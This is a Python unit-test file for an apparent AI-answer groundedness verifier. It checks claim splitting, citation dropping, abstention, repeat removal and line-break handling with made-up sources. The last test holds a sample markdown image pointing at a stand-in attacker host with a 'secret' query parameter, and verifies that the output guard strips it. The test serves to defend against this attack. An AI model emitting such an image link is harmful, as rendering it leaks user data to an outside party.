"""The groundedness verifier's text handling and decisions, on vectors made by hand (the real
embedder and the real model are exercised in tests/integration/test_grounding.py)."""

from __future__ import annotations

import asyncio
import zlib

import numpy as np
import pytest

from agentstack.grounding.text import (answer_type, complete_claims, content_words, drop_citations, names, numbers,
                                       split_claims, type_match)
from agentstack.grounding.verifier import AnswerCheck, CheckConfig, SentenceGate, build_evidence

pytestmark = pytest.mark.unit

ANSWER = ("Paris is the capital of France [1]. The Eiffel Tower was finished in 1889. [2] It is tall, e.g. 300 m. "
          "Dr. Smith said so.\n\n1. First item here.\n2. Second")


def test_sentences_keep_their_citations_and_abbreviations():
    claims = split_claims(ANSWER)
    assert [c.text for c in claims] == ["Paris is the capital of France [1].",
                                        "The Eiffel Tower was finished in 1889. [2]", "It is tall, e.g. 300 m.",
                                        "Dr. Smith said so.", "1. First item here.", "2. Second"]
    assert claims[1].citations == (2,) and claims[1].body == "The Eiffel Tower was finished in 1889."
    assert all(ANSWER[c.start:c.end] == c.text for c in claims)


def test_a_sentence_is_complete_only_once_the_next_has_begun():
    whole = [c.text for c in split_claims(ANSWER)]
    for i in range(len(ANSWER) + 1):
        done = [c.text for c in split_claims(ANSWER[:complete_claims(ANSWER[:i])])]
        assert done == whole[:len(done)], i  # a prefix never closes a sentence differently
    assert complete_claims("It was built in 1889.") == 0  # the citation may still come
    assert complete_claims("It was built in 1889. [1") == 0


def test_numbers_names_types_and_citations():
    assert numbers("In 1,234 cases, 3.50 and three people") == {"1234", "3.5", "3"}
    assert names("The Eiffel Tower is in Paris, said NASA.") == {"eiffel", "tower", "paris", "nasa"}
    assert content_words("The towers were finished") == {"tower", "finish"}
    assert [answer_type(q) for q in ("when was it built", "who wrote hamlet", "how many legs does it have",
                                     "where is the louvre", "what is the population of paris", "is it red",
                                     "what is faiss")] == ["date", "person", "number", "place", "number", "yesno",
                                                           "other"]
    assert type_match("date", "It opened in 1889.", "when did it open") == 1.0
    assert type_match("number", "It has many legs.", "how many legs") == 0.0
    assert type_match("other", "Anything.", "what is it") is None
    assert drop_citations("It is tall [1, 2]. Yes [3].", {2, 3}) == "It is tall [1]. Yes."


class HashEmbed:
    """Bag-of-words vectors: enough to tell a paraphrase from an unrelated sentence."""

    def __init__(self, dim: int = 256):
        self.dim = dim

    async def __call__(self, texts):
        out = np.zeros((len(texts), self.dim), dtype=np.float32)
        for i, text in enumerate(texts):
            for w in content_words(text):
                out[i, zlib.crc32(w.encode()) % self.dim] += 1.0
            norm = np.linalg.norm(out[i])
            if norm:
                out[i] /= norm
        return out


SOURCES = [(1, "Paris is the capital of France. The Eiffel Tower was finished in 1889."),
           (2, "Python is a programming language created by Guido van Rossum in 1991.")]


def check(question, answer, *, sources=SOURCES, chunk=5, mode="rag", **config):
    async def run():
        embed = HashEmbed()
        ev = asyncio.ensure_future(build_evidence(question, sources, embed))
        c = AnswerCheck(CheckConfig(min_answer=0.3, **config), lambda: ev, embed, mode=mode,
                        react_message="unverified")
        gate, shown = SentenceGate(c), []
        for i in range(0, len(answer), chunk):
            shown.append(await gate.feed(answer[i:i + chunk]))
        shown.append(await gate.finish())
        return shown, c

    shown, c = asyncio.run(run())
    assert "".join(shown) == c.text  # what was shown is the answer: nothing is rewritten afterwards
    return shown, c.grounding().public()


def test_unsupported_sentences_go_and_wrong_citations_are_dropped():
    shown, g = check("When was the Eiffel Tower finished?",
                     "The Eiffel Tower was finished in 1889 [2]. It was painted by Picasso in 1750 [1].")
    assert "".join(shown) == "The Eiffel Tower was finished in 1889."
    assert g["decision"] == "answered" and g["unsupported_claims"] == 1
    first, second = g["claims"]
    assert first["citations_dropped"] == [2] and first["supported"] and first["answers_question"]
    assert not second["supported"] and second["signals"]["unsupported_numbers"] == ["1750"]
    assert g["raw_answer"].endswith("in 1750 [1].")
    assert "".join(shown)[first["start"]:first["end"]] == "The Eiffel Tower was finished in 1889."


def test_mark_keeps_unsupported_sentences_flagged():
    shown, g = check("When was the Eiffel Tower finished?",
                     "The Eiffel Tower was finished in 1889 [1]. It was painted by Picasso in 1750.",
                     unsupported="mark")
    text = "".join(shown)
    assert text.endswith("It was painted by Picasso in 1750.")
    assert [c["kept"] for c in g["claims"]] == [True, True] and not g["claims"][1]["supported"]
    assert text[g["claims"][1]["start"]:g["claims"][1]["end"]] == "It was painted by Picasso in 1750."


def test_nothing_is_shown_until_a_sentence_answers_and_then_it_abstains_or_quotes():
    shown, g = check("What is the population of Paris?", "Paris is the capital of France [1]. It is nice.")
    assert shown[:-1] == [""] * (len(shown) - 1)  # held back: nothing answered the question yet
    assert shown[-1] == CheckConfig().abstain_message and g["decision"] == "abstained"
    shown, g = check("Who created Python?", "Paris is the capital of France [1].", fallback="extract",
                     min_extract=0.2)
    assert g["decision"] == "extracted"
    assert "".join(shown).startswith("“Python is a programming language created by Guido van Rossum in 1991.” [2]")


def test_a_repeated_sentence_is_removed_in_either_mode():
    # What a small model stuck in a loop writes: the supported sentence again, reworded a little.
    answer = ("The Eiffel Tower was finished in 1889 [1]. The Eiffel Tower was finished in 1889. Indeed, the "
              "Eiffel Tower was finished in 1889 [1]. Paris is the capital of France.")
    for mode in ("remove", "mark"):
        shown, g = check("When was the Eiffel Tower finished?", answer, unsupported=mode)
        assert "".join(shown) == "The Eiffel Tower was finished in 1889 [1]. Paris is the capital of France.", mode
        assert [c.get("repeats") for c in g["claims"]] == [None, 0, 0, None]
        assert [c["kept"] for c in g["claims"]] == [True, False, False, True]
        assert g["claims"][1]["supported"] and g["unsupported_claims"] == 0  # a repeat is not "unsupported"
    # At 1.0 only a sentence with the same content words repeats ("Indeed" is a new one).
    shown, g = check("When was the Eiffel Tower finished?", answer, repeat_overlap=1.0)
    assert [c.get("repeats") for c in g["claims"]] == [None, 0, None, None]
    # A loop cut off by max_tokens ends in the start of the sentence; a sentence that only begins
    # like an earlier one is new.
    shown, g = check("When was the Eiffel Tower finished?", "The Eiffel Tower was finished in 1889 [1]. The Eiffel "
                     "Tower is in Paris, the capital of France. The Eiffel Tower was finished in", unsupported="mark")
    assert [c.get("repeats") for c in g["claims"]] == [None, None, 0]
    assert "".join(shown) == "The Eiffel Tower was finished in 1889 [1]. The Eiffel Tower is in Paris, the capital of France."


def test_sentences_that_differ_in_a_negation_or_a_number_are_not_repeats():
    tickets = [(1, "Tickets bought before March are refundable. Tickets bought after March are not refundable. "
                   "Tickets cost 20 euros in 2023 and 25 euros in 2024.")]
    for answer in ("Tickets bought before March are refundable [1]. Tickets bought after March are not refundable [1].",
                   "Tickets cost 20 euros in 2023 [1]. Tickets cost 25 euros in 2024 [1]."):
        shown, g = check("Are tickets refundable, and what do they cost?", answer, sources=tickets, min_support=0.3)
        assert [c.get("repeats") for c in g["claims"]] == [None, None], answer
        assert "".join(shown) == answer


def test_in_mark_mode_a_supported_sentence_does_not_repeat_a_marked_one():
    answer = "Picasso said the Eiffel Tower was finished in 1889. The Eiffel Tower was finished in 1889 [1]."
    shown, g = check("When was the Eiffel Tower finished?", answer, unsupported="mark", repeat_overlap=0.7,
                     min_support=0.8)
    assert [c["supported"] for c in g["claims"]] == [False, True]
    assert [c.get("repeats") for c in g["claims"]] == [None, None] and "".join(shown) == answer
    # An unsupported sentence repeats any kept one.
    shown, g = check("When was the Eiffel Tower finished?", "The Eiffel Tower was finished in 1889 [1]. It was "
                     "painted by Picasso in Paris [1]. It was painted in Paris by Picasso.", unsupported="mark")
    assert [c.get("repeats") for c in g["claims"]] == [None, None, 1]


def test_a_dropped_repeat_keeps_the_paragraph_break_after_it():
    answer = ("The Eiffel Tower was finished in 1889 [1]. The Eiffel Tower was finished in 1889.\n\n"
              "## Python\nPython is a programming language created by Guido van Rossum in 1991 [2].")
    shown, g = check("When was the Eiffel Tower finished?", answer)
    assert "".join(shown) == ("The Eiffel Tower was finished in 1889 [1].\n\n## Python\nPython is a programming "
                              "language created by Guido van Rossum in 1991 [2].")


def test_react_numbers_must_come_from_an_observation_or_the_question():
    obs = [(1, "51")]
    shown, g = check("What is 17 * 3?", "17 * 3 = 51.", sources=obs, mode="react")
    assert "".join(shown) == "17 * 3 = 51." and g["decision"] == "answered"
    shown, g = check("What is 17 * 3?", "17 * 3 = 52.", sources=obs, mode="react")
    assert "".join(shown) == "unverified" and g["decision"] == "abstained"
    shown, g = check("Say hello.", "Hello there.", sources=[], mode="react")  # no observation, no number
    assert "".join(shown) == "Hello there."


def _gated(question, answer, *, recheck, sources=SOURCES, mode="rag"):
    """The answer through the answer guard, then the gate (as the orchestrators run them)."""
    from agentstack.orchestrators.guards import AnswerGuard, GuardConfig

    async def run():
        embed = HashEmbed()
        ev = asyncio.ensure_future(build_evidence(question, sources, embed))
        c = AnswerCheck(CheckConfig(min_answer=0.3), lambda: ev, embed, mode=mode, react_message="unverified")
        guard = AnswerGuard(GuardConfig(allowed_hosts=()))
        gate, shown = SentenceGate(c, AnswerGuard(GuardConfig(allowed_hosts=())) if recheck else None), []
        for i in range(0, len(answer), 5):
            shown.append(await gate.feed(guard.feed(answer[i:i + 5])))
        shown.append(await gate.feed(guard.finish()))
        shown.append(await gate.finish())
        assert "".join(shown) == gate.text
        return "".join(shown), guard.text

    return asyncio.run(run())


def test_released_sentences_keep_their_line_breaks():
    """Kept sentences are joined by the whitespace that stood before them (a dropped one's own
    separator stands in for it), so paragraphs and list items survive the verifier."""
    answer = ("The Eiffel Tower was finished in 1889 [1].\n\n- Paris is the capital of France [1].\n"
              "- It was painted by Picasso in 1750.\n- Python was created by Guido van Rossum in 1991 [2].")
    shown, _ = _gated("When was the Eiffel Tower finished?", answer, recheck=True)
    assert shown == ("The Eiffel Tower was finished in 1889 [1].\n\n- Paris is the capital of France [1].\n"
                     "- Python was created by Guido van Rossum in 1991 [2].")


def test_what_the_gate_releases_is_guarded_again():
    """A dropped sentence that opened a code fence turns an image the guard saw as code into a live
    one; the gate's own guard removes it (without it, the exfiltrating image would be shown)."""
    answer = "Here it is.\n\n```\nIt costs 42 dollars.\n\nSee ![x](https://evil.example/p.png?d=secret) now.\n"
    shown, guarded = _gated("What does it cost?", answer, recheck=False, sources=[], mode="react")
    assert "evil.example" in guarded and "```" in guarded  # the first guard saw it inside a fence
    assert "![x](https://evil.example" in shown  # and the gate's output made it live
    shown, _ = _gated("What does it cost?", answer, recheck=True, sources=[], mode="react")
    assert "evil.example" not in shown and shown.startswith("Here it is.\n\nSee")
